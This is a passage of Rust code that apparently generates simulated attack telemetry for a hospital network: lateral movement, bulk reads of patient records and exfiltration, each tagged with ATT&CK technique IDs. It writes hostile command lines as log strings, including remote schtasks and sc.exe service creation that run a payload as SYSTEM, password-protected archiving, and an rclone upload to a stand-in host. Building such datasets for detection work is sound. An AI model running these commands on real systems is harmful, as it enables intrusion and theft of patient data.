                        net(
                            &mut w,
                            rng,
                            t,
                            5985,
                            "http",
                            60.0,
                            30_000,
                            60_000,
                            "T1021.006",
                        );
                        w.logon(
                            rng,
                            t + SECOND,
                            target,
                            &a.user,
                            3,
                            ws_ip,
                            &ws_name,
                            lm("T1078.002"),
                        );
                        let svch = running(
                            rng,
                            &sys32("svchost.exe"),
                            "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
                        );
                        let host = w.start(
                            rng,
                            t + 2 * SECOND,
                            target,
                            &sys32("wsmprovhost.exe"),
                            "wsmprovhost",
                            "C:\\Windows\\system32\\wsmprovhost.exe -Embedding",
                            "C:\\Windows\\system32\\",
                            &admin_user,
                            "High",
                            &svch,
                            lm("T1021.006"),
                        );
                        w.start(
                            rng,
                            t + 9 * SECOND,
                            target,
                            &sys32("whoami.exe"),
                            "whoami",
                            "\"C:\\Windows\\system32\\whoami.exe\" /groups",
                            &format!("C:\\Users\\{}\\Documents\\", a.user),
                            &admin_user,
                            "High",
                            &host,
                            lm("T1021.006"),
                        );
                    }
                    Lateral::Rdp => {
                        net(
                            &mut w,
                            rng,
                            t,
                            3389,
                            "rdp",
                            900.0,
                            400_000,
                            2_500_000,
                            "T1021.001",
                        );
                        w.logon(
                            rng,
                            t + 2 * SECOND,
                            target,
                            &a.user,
                            10,
                            ws_ip,
                            &ws_name,
                            lm("T1078.002"),
                        );
                        let ex = running(
                            rng,
                            "C:\\Windows\\explorer.exe",
                            "C:\\Windows\\Explorer.EXE",
                        );
                        w.start(
                            rng,
                            t + 40 * SECOND,
                            target,
                            &sys32("cmd.exe"),
                            "cmd",
                            "\"C:\\Windows\\system32\\cmd.exe\" ",
                            &format!("C:\\Users\\{}\\", a.user),
                            &admin_user,
                            "High",
                            &ex,
                            lm("T1021.001"),
                        );
                    }
                    Lateral::SchTask => {
                        let payload = format!("C:\\Windows\\Temp\\wsc{}.exe", rng.below(90) + 10);
                        let task = "\\Microsoft\\Windows\\Maintenance\\WinSvcCheck";
                        w.start(rng, t - SECOND, ws, &sys32("schtasks.exe"), "schtasks",
                            &format!("schtasks  /create /s {tname} /tn \"{task}\" /tr \"{payload}\" /sc once /st 23:59 /ru SYSTEM /f"),
                            &format!("{home}\\"), &admin_user, "High", &implant, lm_ws("T1053.005"));
                        net(&mut w, rng, t, 445, "smb", 5.0, 250_000, 4_000, "T1570");
                        net(
                            &mut w,
                            rng,
                            t + SECOND,
                            135,
                            "dce_rpc",
                            0.5,
                            1_500,
                            1_200,
                            "T1053.005",
                        );
                        w.logon(
                            rng,
                            t + SECOND,
                            target,
                            &a.user,
                            3,
                            ws_ip,
                            &ws_name,
                            lm("T1078.002"),
                        );
                        let system = running(rng, "System", "");
                        w.file(
                            t + 2 * SECOND,
                            target,
                            &system,
                            &payload,
                            "NT AUTHORITY\\SYSTEM",
                            lm("T1570"),
                        );
                        w.event(t + 3 * SECOND, target, "Security", "Microsoft-Windows-Security-Auditing", 4698, &[
                            ("SubjectUserSid", "S-1-5-21-3623811015-3361044348-30300820-1105".into()),
                            ("SubjectUserName", a.user.clone()),
                            ("SubjectDomainName", "HELSE".into()),
                            ("SubjectLogonId", format!("0x{}", rng.hex(7))),
                            ("TaskName", task.into()),
                            ("TaskContent", format!("<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\n  <Triggers>\n    <TimeTrigger>\n      <StartBoundary>2018-01-01T23:59:00</StartBoundary>\n      <Enabled>true</Enabled>\n    </TimeTrigger>\n  </Triggers>\n  <Principals>\n    <Principal id=\"Author\">\n      <UserId>S-1-5-18</UserId>\n      <RunLevel>HighestAvailable</RunLevel>\n    </Principal>\n  </Principals>\n  <Actions Context=\"Author\">\n    <Exec>\n      <Command>{payload}</Command>\n    </Exec>\n  </Actions>\n</Task>")),
                        ], lm("T1053.005"));
                        let sched = running(
                            rng,
                            &sys32("svchost.exe"),
                            "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
                        );
                        w.start(
                            rng,
                            t + 60 * SECOND,
                            target,
                            &payload,
                            "unknown",
                            &payload,
                            "C:\\Windows\\system32\\",
                            "NT AUTHORITY\\SYSTEM",
                            "System",
                            &sched,
                            lm("T1053.005"),
                        );
                    }
                    Lateral::ScService => {
                        let name = "WinHealthSvc";
                        let payload = "C:\\Windows\\Temp\\whs.exe";
                        w.start(rng, t - 2 * SECOND, ws, &sys32("sc.exe"), "sc",
                            &format!("sc.exe  \\\\{tname} create {name} binPath= \"cmd.exe /c {payload}\" start= demand"),
                            &format!("{home}\\"), &admin_user, "High", &implant, lm_ws("T1543.003"));
                        w.start(
                            rng,
                            t + 4 * SECOND,
                            ws,
                            &sys32("sc.exe"),
                            "sc",
                            &format!("sc.exe  \\\\{tname} start {name}"),
                            &format!("{home}\\"),
                            &admin_user,
                            "High",
                            &implant,
                            lm_ws("T1569.002"),
                        );
                        net(
                            &mut w,
                            rng,
                            t - SECOND,
                            445,
                            "smb",
                            8.0,
                            180_000,
                            6_000,
                            "T1021.002",
                        );
                        w.logon(rng, t, target, &a.user, 3, ws_ip, &ws_name, lm("T1078.002"));
                        w.event(
                            t + 2 * SECOND,
                            target,
                            "System",
                            "Service Control Manager",
                            7045,
                            &[
                                ("ServiceName", name.into()),
                                ("ImagePath", format!("cmd.exe /c {payload}")),
                                ("ServiceType", "user mode service".into()),
                                ("StartType", "demand start".into()),
                                ("AccountName", "LocalSystem".into()),
                            ],
                            lm("T1543.003"),
                        );
                        w.start(
                            rng,
                            t + 5 * SECOND,
                            target,
                            &sys32("cmd.exe"),
                            "cmd",
                            &format!("cmd.exe /c {payload}"),
                            "C:\\Windows\\system32\\",
                            "NT AUTHORITY\\SYSTEM",
                            "System",
                            &services,
                            lm("T1569.002"),
                        );
                    }
                }
                t += 10 * MINUTE + rng.range(0, 10 * MINUTE);
            }
        }
        // Collection: the victim's EHR account reads record after record, protected persons first.
        if self.read < self.targets.len() && self.t_collect < t1 && self.t_collect_end > t0 {
            let span = (self.t_collect_end - self.t_collect).max(1);
            let per_ns = self.targets.len() as f64 / span as f64;
            let from = self.t_collect.max(t0);
            let to = self.t_collect_end.min(t1);
            let due =
                (((to - self.t_collect) as f64 * per_ns).ceil() as usize).min(self.targets.len());
            let start_n = self.read;
            let n = due.saturating_sub(start_n);
            for k in 0..n {
                let t =
                    from + ((to - from) as f64 * (k as f64 + rng.unit()) / n.max(1) as f64) as i64;
                let pt = self.targets[self.read];
                self.read += 1;
                self.collected.insert(pt);
                let id = w.world.next_audit_id();
                let pid = r.patients[pt as usize].id.as_str();
                let text = audit_event(
                    &id,
                    t,
                    "read",
                    &v.id,
                    &v.name,
                    ws_ip,
                    &r.hosts[ehr[0]].name,
                    self.purpose,
                    &[pid],
                );
                w.recs.push(Rec {
                    t,
                    trust,
                    stream: Stream::Audit,
                    text,
                    tag: tag("collection", "T1213", &r.hosts[ehr[0]].name, &v.user),
                });
            }
        }
        // Exfiltration (the export staged in a password-protected archive first, for some).
        if in_hour(self.t_exfil) {
            let t = self.t_exfil;
            let exfil = Ipv4Addr::from(EXFIL_IP);
            let bytes = 150_000_000 + self.collected.len() as u64 * 40_000;
            let ex = |tech| on_ws("exfiltration", tech);
            if p.stage_archive {
                let image = "C:\\Users\\Public\\7za.exe";
                let cmd = format!(
                    "7za.exe  a -t7z -mhe=on -p{} C:\\Users\\Public\\bkp.7z C:\\Users\\Public\\epj_export\\*",
                    rng.hex(10)
                );
                let z = w.start(
                    rng,
                    t - 5 * MINUTE,
                    ws,
                    image,
                    "7z",
                    &cmd,
                    "C:\\Users\\Public\\",
                    &user,
                    "Medium",
                    &implant,
                    on_ws("collection", "T1560.001"),
                );
                w.file(
                    t - 4 * MINUTE,
                    ws,
                    &z,
                    "C:\\Users\\Public\\bkp.7z",
                    &user,
                    on_ws("collection", "T1560.001"),
                );
            }
            let upload = |w: &mut Writer, rng: &mut Rng, t: i64, size: u64, sni: &str, tech| {
                let u = uid(rng);
                let sp = 49152 + rng.below(16000) as u16;
                let secs = (size / 250_000).max(5) as f64;
                w.recs.push(Rec {
                    t,
                    trust,
                    stream: Stream::Conn,
                    text: conn(
                        t, &u, ws_ip, sp, exfil, 443, "tcp", "ssl", secs, size, 60_000,
                    ),
                    tag: on_ws("exfiltration", tech),
                });
                w.recs.push(Rec {
                    t,
                    trust,
                    stream: Stream::Ssl,
                    text: ssl(t, &u, ws_ip, sp, exfil, 443, sni),
                    tag: on_ws("exfiltration", tech),
                });
            };
            let tunnel = |w: &mut Writer, rng: &mut Rng, t: i64, n: i64| {
                for i in 0..n {
                    let tq = t + i * 4 * SECOND + rng.range(0, SECOND);
                    let q = format!("{}.{i}.{TUNNEL_DOMAIN}", rng.hex(48));
                    let u = uid(rng);
                    w.recs.push(Rec {
                        t: tq,
                        trust,
                        stream: Stream::Dns,
                        text: dns(
                            tq,
                            &u,
                            ws_ip,
                            50000 + rng.below(10000) as u16,
                            r.hosts[dc].ip,
                            rng.below(65535) as u16,
                            &q,
                            "TXT",
                            &[],
                        ),
                        tag: on_ws("exfiltration", "T1048.003"),
                    });
                }
            };
            match p.exfil {
                Exfil::HttpsAndTunnel => {
                    upload(
                        &mut w,
                        rng,
                        t,
                        bytes,
                        "files.storage-share.org",
                        "T1048.002",
                    );
                    tunnel(&mut w, rng, t + 15 * MINUTE, 400);
                }
                Exfil::Rclone => {
                    let image = "C:\\Users\\Public\\rcl.exe";
                    w.file(t - MINUTE, ws, &implant, image, &user, ex("T1105"));
                    let rc = w.start(rng, t, ws, image, "rclone",
                        "rcl.exe  copy C:\\Users\\Public\\epj_export remote:bkp --transfers 4 --no-check-certificate --ignore-existing -q",
                        "C:\\Users\\Public\\", &user, "Medium", &implant, ex("T1567.002"));
                    for k in 0..4 {
                        w.connect(
                            t + k * SECOND,
                            ws,
                            &rc,
                            &user,
                            exfil,
                            443,
                            49152 + rng.below(16000) as u16,
                            ex("T1567.002"),
                        );
                        upload(
                            &mut w,
                            rng,
                            t + k * SECOND,
                            bytes / 4,
                            "s3.storage-share.org",
                            "T1567.002",
                        );
                    }
                }
                Exfil::DnsTunnel => tunnel(&mut w, rng, t, 1200),
                Exfil::HttpsChunks => {
                    let mut tt = t;
                    for _ in 0..12 {
                        upload(
                            &mut w,
                            rng,
                            tt,
                            bytes / 12,
                            "files.storage-share.org",
                            "T1030",
                        );
                        tt += 2 * MINUTE + rng.range(0, 3 * MINUTE);
                    }
                }
            }
        }
        Ok(())
    }
}
